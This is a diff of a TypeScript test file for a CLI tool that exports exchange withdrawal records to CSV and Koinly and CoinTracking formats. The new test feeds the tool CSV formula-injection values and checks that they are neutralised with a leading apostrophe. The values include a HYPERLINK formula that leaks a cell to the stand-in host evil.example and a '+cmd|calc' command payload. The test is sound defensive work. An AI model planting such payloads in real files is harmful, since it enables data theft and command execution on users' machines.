@@ -107,7 +107,7 @@ describe('a hostile server, through the CLI', () => {
     const held = await against(handlers, args);
     const reason = 'p2p_advertisements could not be read and its range is a gap: the platform refused GET /api/v2/p2p/advList: HTTP 400, code 40017 "Parameter verification failed"; this is likely a ledgerpipe bug; please report it with this line; run again to fill it';
     expect([held.status, lastLine(held.stderr)]).toEqual([4, `ledgerpipe: ${reason}; no files were written (add --allow-gaps to write them with the gap)`]);
-    expect(await readdir(join(dir, 'out')).catch(() => [])).toEqual([]);
+    expect(await readdir(join(dir, 'out'))).toEqual([]);
     const warehouse = await openWarehouse(join(dir, 'w.duckdb'));
     try {
       expect(await rows(warehouse, 'SELECT source, source_id, amount::VARCHAR AS amount FROM ledger')).toEqual([{ source: 'margin_records', source_id: '1', amount: '5.000000000000000000' }]);
@@ -225,6 +225,31 @@ describe('a hostile server, through the CLI', () => {
     } finally {
       await warehouse.close();
     }
+  });
+
+  it('sends formulas in a withdrawal: every CSV a spreadsheet opens holds them as text, amounts keep their minus', async () => {
+    const link = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
+    const at = Date.UTC(2025, 0, 7);
+    const withdrawal: HostileHandler = (r) =>
+      ok(r.query.has('idLessThan') || !holds(r, at) ? [] : [{
+        orderId: '31', tradeId: link, coin: 'USDT', clientOid: '+cmd|calc', type: 'withdraw', dest: 'on_chain', size: '12.5', fee: '-0.5',
+        status: 'success', fromAddress: '', toAddress: '@SUM(1+1)', chain: '-erc20', confirm: '12', tag: '\tx', cTime: String(at), uTime: String(at),
+      }]);
+    const result = await against({ '/api/v2/spot/wallet/withdrawal-records': withdrawal }, [
+      'run', 'year-end', '--streams', 'withdrawals', '--from', '2025-01-01', '--to', '2025-02-01', '--format', 'csv,koinly,cointracking',
+    ]);
+    expect(result.status).toBe(0);
+    const table = async (file: string) => parseCsv(await readFile(join(dir, 'out', file), 'utf8'));
+    const [header, ...records] = await table('withdrawals.csv');
+    const cell = (name: string) => records[0]?.[header?.indexOf(name) ?? -1];
+    expect(['trade_id', 'client_oid', 'to_address', 'chain', 'tag', 'size', 'fee'].map(cell)).toEqual([`'${link}`, "'+cmd|calc", "'@SUM(1+1)", "'-erc20", "'\tx", '12.5', '-0.5']);
+    const ledger = await table('ledger.csv');
+    const ledgerColumn = (name: string) => ledger.slice(1).map((row) => row[ledger[0]?.indexOf(name) ?? -1]);
+    expect([ledgerColumn('reference'), ledgerColumn('amount')]).toEqual([[`'${link}`, `'${link}`], ['-0.5', '-12.5']]);
+    const koinly = await table('koinly.csv');
+    expect(koinly.slice(1).map((row) => row[koinly[0]?.indexOf('TxHash') ?? -1])).toEqual([`'${link}`]);
+    // No cell of the CoinTracking file starts a formula: a minus only before a number.
+    expect((await table('cointracking.csv')).flat().filter((c) => /^([=+@\t\r]|-(?![\d.]))/.test(c))).toEqual([]);
   });
 });
 
